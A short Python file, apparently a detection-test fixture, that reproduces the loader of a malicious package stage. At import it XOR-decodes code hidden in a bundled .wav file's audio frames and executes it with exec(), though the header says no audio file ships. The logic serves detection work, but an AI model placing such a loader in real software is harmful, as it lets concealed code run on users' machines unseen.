# Defanged replica of an audio-hidden stage (the telnyx 4.87.x shape): the
# code is XOR-ed into the frames of a .wav shipped with the package, read
# back with the wave module and executed. No such file ships here.
import os
import wave

SOUND = os.path.join(os.path.dirname(__file__), "data", "notify.wav")
KEY = 0x5A


def load():
    with wave.open(SOUND, "rb") as w:  # expect: HS240 high
        frames = w.readframes(w.getnframes())
    return bytes(b ^ KEY for b in frames).rstrip(b"\x00").decode("utf-8", "ignore")


if os.path.exists(SOUND):
    exec(load())
